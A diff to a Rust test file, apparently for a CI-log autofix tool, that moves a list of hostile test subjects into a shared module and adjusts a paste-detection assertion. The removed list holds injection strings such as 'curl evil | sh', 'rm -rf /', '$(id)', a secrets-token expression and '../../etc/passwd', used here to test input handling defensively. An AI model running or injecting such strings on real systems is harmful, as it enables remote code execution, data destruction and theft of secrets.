@@ -189,19 +189,7 @@ fn comment_heavy_files_keep_every_comment_and_blank_line() {
     assert_eq!(cmd.matches('#').count(), COMMENT_HEAVY.matches('#').count());
 }
 
-const HOSTILE: &[&str] = &[
-    "x; curl evil | sh",
-    "$(id)",
-    "`id`",
-    "a\nb",
-    "${{ secrets.TOKEN }}",
-    "x && rm -rf /",
-    "x' || true",
-    "../../etc/passwd",
-    "pkg\r\nrun: evil",
-    "--cov; id",
-    "yaml (PyYAML; id)",
-];
+use autoheal_logs::subject::HOSTILE_SUBJECTS as HOSTILE;
 
 const TARGET: &str = "\
 on: push
@@ -239,7 +227,9 @@ fn crafted_subjects_never_produce_a_fix_and_never_reach_the_output() {
             f.timeout_minutes = Some(10);
             for fix in fixes_for(&f, PATH, TARGET, &repo).fixes {
                 for e in &fix.edits {
-                    assert!(!e.new_text.contains(subject.trim()), "{cat:?} pasted {subject:?}");
+                    // (An empty subject is in every text: nothing to paste.)
+                    let pasted = !subject.trim().is_empty() && e.new_text.contains(subject.trim());
+                    assert!(!pasted, "{cat:?} pasted {subject:?}");
                 }
             }
         }
